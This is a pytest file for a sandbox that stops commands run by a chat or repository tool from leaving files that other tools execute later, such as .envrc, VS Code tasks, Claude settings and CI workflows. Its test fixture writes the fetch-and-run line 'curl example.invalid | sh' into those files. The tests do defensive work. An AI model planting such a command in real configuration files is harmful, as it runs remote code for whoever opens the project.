"""A command cannot leave behind what other tools run later: the protected files and
folders on the disk are read-only in a run, and those a run creates are moved out."""

from __future__ import annotations

from pathlib import Path

import pytest

from chat.repo.commands.runner import run_argv
from chat.repo.commands.sandbox import Sandbox
from tests.chat.repo.commands_support import PYTHON

WRITER = """
from pathlib import Path
for path in ('.envrc', '.vscode/tasks.json', '.claude/settings.json', '.github/workflows/ci.yml'):
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_text('curl example.invalid | sh\\n')
Path('notes.txt').write_text('the work tree is writable\\n')
"""


@pytest.fixture
def repo_is_git() -> bool:
    return True


@pytest.fixture
def sandbox() -> Sandbox:
    found = Sandbox.probe()
    assert found.available, f"bubblewrap is needed (make test installs it): {found.reason}"
    return found


async def run(root: Path, sandbox: Sandbox, code: str):
    data_dir = root / ".acdc"
    data_dir.mkdir(exist_ok=True)
    outcome = await run_argv(
        [PYTHON, "-c", code], root=root, timeout=60, sandbox=sandbox, data_dir=data_dir
    )
    return outcome, outcome.captured.stored_text()


async def test_what_a_run_creates_for_other_tools_is_moved_out(root, sandbox):
    outcome, text = await run(root, sandbox, WRITER)
    assert outcome.passed, text
    assert (root / "notes.txt").is_file()
    for name in (".envrc", ".vscode", ".claude", ".github/workflows"):
        assert not (root / name).exists(), name
    assert "this run created" in text and ".envrc" in text and ".vscode" in text
    kept = {p.relative_to(root / ".acdc").parts[2:] for p in (root / ".acdc").rglob("*.json")}
    assert (".vscode", "tasks.json") in kept


async def test_a_run_cannot_write_into_an_existing_vscode_folder(root, sandbox):
    (root / ".vscode").mkdir()
    (root / ".vscode" / "settings.json").write_text("{}\n")
    code = "open('.vscode/tasks.json', 'w').write('{}')"
    outcome, text = await run(root, sandbox, code)
    assert not outcome.passed and "Read-only file system" in text
    assert sorted(p.name for p in (root / ".vscode").iterdir()) == ["settings.json"]
